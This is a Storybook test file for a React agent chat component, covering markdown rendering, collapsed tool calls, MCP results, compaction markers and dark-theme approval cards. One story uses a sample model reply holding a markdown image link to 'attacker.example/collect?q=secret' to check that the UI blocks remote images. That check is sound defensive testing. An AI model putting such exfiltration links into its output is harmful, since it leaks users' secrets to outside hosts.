import type { Meta, StoryObj } from '@storybook/react-vite';
import type { AgentUIMessage, AgentUIMessagePart } from '@x/agent-protocol';
import { AgentChat, AgentConversations, AgentUIProvider } from '@x/agent-ui';
import { expect, userEvent, waitFor, within } from 'storybook/test';
import { scenarioHandlers } from './support/scenario-server.js';
import { chatMounted } from './support/chat-actions.js';

const meta = {
  title: 'AgentChat/Rendering',
  component: AgentChat,
  args: { agentId: 'plain-text', height: 620 },
  parameters: { msw: { handlers: scenarioHandlers } },
} satisfies Meta<typeof AgentChat>;
export default meta;

type Story = StoryObj<typeof meta>;

const MARKDOWN = [
  'Here are the plans compared:',
  '',
  '| Plan | Seats | Price / month |',
  '| --- | :---: | ---: |',
  '| Free | 1 | $0 |',
  '| Team | 10 | $40 |',
  '| Business | 50 | $180 |',
  '',
  '> Prices exclude VAT.',
  '',
  'And the call, with `fetch`:',
  '',
  '```ts',
  'const response = await fetch("/api/plans", { method: "GET" });',
  'const plans: Plan[] = await response.json(); // typed',
  '```',
].join('\n');

function reply(parts: AgentUIMessagePart[]): AgentUIMessage[] {
  return [
    { id: 'u1', role: 'user', parts: [{ type: 'text', text: 'Show me' }] },
    { id: 'a1', role: 'assistant', parts },
  ];
}

const lookup = (i: number) =>
  ({ type: 'tool-lookupOrder', toolCallId: `call-${i}`, state: 'output-available', input: { orderId: 1000 + i }, output: { orderId: 1000 + i, status: i % 3 ? 'shipped' : 'packed' } }) as unknown as AgentUIMessagePart;

const darkPage = (Story: () => React.ReactNode) => <div style={{ background: '#141414', padding: 16 }}>{Story()}</div>;

/** A markdown table (borders, shaded header), a quote with its bar, and a highlighted code block with a copy button. */
export const MarkdownTableAndCode: Story = {
  args: { messages: reply([{ type: 'text', text: MARKDOWN }]) },
  play: async ({ canvasElement }) => {
    await chatMounted(canvasElement);
    const canvas = within(canvasElement);
    const table = canvas.getByRole('table');
    // Styled by the kit's stylesheet (classes over antd's CSS variables), not inline styles.
    const plan = within(table).getByRole('columnheader', { name: 'Plan' });
    await expect(getComputedStyle(plan).borderTopStyle).toBe('solid');
    await expect(getComputedStyle(plan).backgroundColor).not.toBe('rgba(0, 0, 0, 0)');
    await expect(getComputedStyle(within(table).getByRole('cell', { name: '$40' })).textAlign).toBe('end');
    const quote = canvasElement.querySelector('blockquote')!;
    await expect(getComputedStyle(quote).borderInlineStartWidth).toBe('4px');
    await expect(getComputedStyle(canvas.getByText('fetch', { selector: 'code' })).fontFamily).toMatch(/mono/i);
    await expect(document.head.querySelectorAll('style[data-href~="xagent-ui"]')).toHaveLength(1);
    const block = canvasElement.querySelector<HTMLElement>('[data-xagent-code-block="ts"]')!;
    // The highlighter arrives in its own chunk.
    await waitFor(() => expect(block.querySelector('code span[style*="color"]')).not.toBeNull(), { timeout: 10_000 });
    await expect(within(block).getByRole('button', { name: 'Copy code' })).toBeVisible();
  },
};

/** The same in the dark theme. */
export const MarkdownDark: Story = {
  args: { messages: reply([{ type: 'text', text: MARKDOWN }]), ui: { appearance: { dark: true } } },
  decorators: [darkPage],
  play: async ({ canvasElement }) => {
    await chatMounted(canvasElement);
    const block = canvasElement.querySelector<HTMLElement>('[data-xagent-code-block="ts"]')!;
    await waitFor(() => expect(block.querySelector('code span[style*="color"]')).not.toBeNull(), { timeout: 10_000 });
    await expect(getComputedStyle(canvasElement.querySelector('[data-xagent-chat]')!).colorScheme).toBe('dark');
  },
};

/** An image in model output is not fetched: a placeholder names its host and loads it on click. */
export const BlockedImage: Story = {
  args: { messages: reply([{ type: 'text', text: 'Here is your chart: ![Sales chart](https://attacker.example/collect?q=secret)' }]) },
  play: async ({ canvasElement }) => {
    await chatMounted(canvasElement);
    const canvas = within(canvasElement);
    await expect(await canvas.findByRole('button', { name: /Image from attacker\.example/ })).toBeVisible();
    await expect(canvasElement.querySelector('[data-xagent-markdown] img')).toBeNull();
  },
};

/** Twenty calls in one reply collapse into one line that expands to their cards. */
export const ToolCallsCollapsed: Story = {
  args: { messages: reply([...Array.from({ length: 20 }, (_, i) => lookup(i)), { type: 'text', text: 'All 20 orders are on their way.' }]) },
  play: async ({ canvasElement }) => {
    await chatMounted(canvasElement);
    const canvas = within(canvasElement);
    const toggle = await canvas.findByRole('button', { name: 'Used lookupOrder 20 times' });
    await expect(toggle.getBoundingClientRect().height).toBeGreaterThanOrEqual(24);
    await userEvent.click(toggle);
    await expect(toggle).toHaveAttribute('aria-expanded', 'true');
    // Compact rows (input → result), each expanding to its full card.
    await expect(canvasElement.querySelectorAll('[data-xagent-tool-row="lookupOrder"]')).toHaveLength(20);
    await expect(canvasElement.querySelectorAll('[data-xagent-tool="lookupOrder"]')).toHaveLength(0);
  },
};

/** An MCP tool result shows as its text and images, not as JSON. */
export const McpResult: Story = {
  args: {
    messages: reply([
      {
        type: 'dynamic-tool',
        toolName: 'github.search_issues',
        toolCallId: 'm1',
        state: 'output-available',
        input: { query: 'render crash' },
        output: { content: [{ type: 'text', text: 'Found 3 issues: #12 render crash on empty file part, #40, #41.' }], isError: false },
      } as unknown as AgentUIMessagePart,
    ]),
  },
  play: async ({ canvasElement }) => {
    await chatMounted(canvasElement);
    const card = await within(canvasElement).findByRole('group', { name: 'github.search_issues finished' });
    await expect(card).toHaveTextContent('Found 3 issues');
    await userEvent.click(within(card).getByText('Show full result'));
    await expect(within(card).getByText('Hide full result')).toBeVisible();
  },
};

const compacted = (): AgentUIMessage[] => [
  {
    id: 'a0',
    role: 'assistant',
    parts: [
      {
        type: 'data-compaction',
        data: { summary: 'The user is planning a **weekend in Lisbon**: flights booked for Friday, the Alfama hotel chosen, a tram 28 ride on Saturday.', replacedMessages: 14 },
      } as unknown as AgentUIMessagePart,
      { type: 'text', text: 'Your Lisbon weekend is set. Anything else?' },
    ],
  },
  { id: 'u1', role: 'user', parts: [{ type: 'text', text: 'Which hotel did we pick?' }] },
  { id: 'a1', role: 'assistant', parts: [{ type: 'text', text: 'The Alfama hotel.' }] },
];

/** A compacted conversation: "Earlier messages were summarized", expanded to the summary the agent works from. */
export const CompactionMarker: Story = {
  args: { messages: compacted() },
  play: async ({ canvasElement }) => {
    await chatMounted(canvasElement);
    const toggle = await within(canvasElement).findByRole('button', { name: 'Earlier messages were summarized' });
    await expect(toggle).toHaveAttribute('aria-expanded', 'false');
    await userEvent.click(toggle);
    await expect(toggle).toHaveAttribute('aria-expanded', 'true');
    await expect(within(canvasElement).getByText(/flights booked for Friday/)).toBeVisible();
  },
};

/** The compaction marker in the dark theme, expanded. */
export const CompactionMarkerDark: Story = {
  args: { ui: { appearance: { dark: true } }, messages: compacted() },
  decorators: [darkPage],
  play: async ({ canvasElement }) => {
    await chatMounted(canvasElement);
    await userEvent.click(await within(canvasElement).findByRole('button', { name: 'Earlier messages were summarized' }));
    await expect(within(canvasElement).getByText(/flights booked for Friday/)).toBeVisible();
  },
};

/** Dark theme with an approval waiting: the Reject button and the card text pass contrast. */
export const ApprovalDark: Story = {
  args: {
    ui: { appearance: { dark: true } },
    messages: reply([
      { type: 'text', text: 'I will delete record 7 once you approve.' },
      { type: 'tool-deleteRecord', toolCallId: 'd1', state: 'approval-requested', input: { id: 7 }, approval: { id: 'ap1' } } as unknown as AgentUIMessagePart,
    ]),
  },
  decorators: [darkPage],
  play: async ({ canvasElement }) => {
    await chatMounted(canvasElement);
    await expect(await within(canvasElement).findByRole('button', { name: 'Reject' })).toBeVisible();
  },
};

/** The conversation list in the dark theme (group labels, scrollbars). */
export const ConversationsDark: Story = {
  render: () => (
    <div style={{ background: '#141414', padding: 16, width: 300 }}>
      <AgentUIProvider appearance={{ dark: true }}>
        <AgentConversations
          items={[
            { key: 'a', label: 'Weekend in Lisbon', group: 'Today' },
            { key: 'b', label: 'Quarterly report draft', group: 'Yesterday' },
          ]}
          activeKey="a"
        />
      </AgentUIProvider>
    </div>
  ),
  play: async ({ canvasElement }) => {
    await chatMounted(canvasElement);
    await expect(getComputedStyle(canvasElement.querySelector('[data-xagent-conversations]')!).colorScheme).toBe('dark');
    await expect(within(canvasElement).getByText('Today')).toBeVisible();
  },
};
